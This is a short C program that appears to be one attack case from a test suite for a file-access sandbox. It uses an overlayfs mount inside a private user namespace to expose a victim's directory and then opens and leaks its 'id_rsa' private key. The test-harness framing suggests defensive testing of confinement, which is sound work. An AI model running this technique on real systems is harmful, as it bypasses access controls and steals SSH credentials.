/* SPDX-License-Identifier: Apache-2.0 */
/* An overlay in an own user namespace shows the victim's directory below a granted one, by other inodes. */
#define ATTACK "overlay-mount"
#include "attack.h"
#include <sys/mount.h>

int main(int count, char **argument)
{
	char *place = text("%s/merged", argument[2]);
	char *upper = text("%s/upper", argument[2]), *work = text("%s/work", argument[2]);

	(void)count;
	become_namespace_root(CLONE_NEWNS);
	prepare("mkdir", mkdir(place, 0700) | mkdir(upper, 0700) | mkdir(work, 0700));
	intended("mount", mount("overlay", place, "overlay", 0,
			       text("lowerdir=%s,upperdir=%s,workdir=%s,userxattr", argument[1], upper, work)));
	open_and_leak(text("%s/id_rsa", place));
}
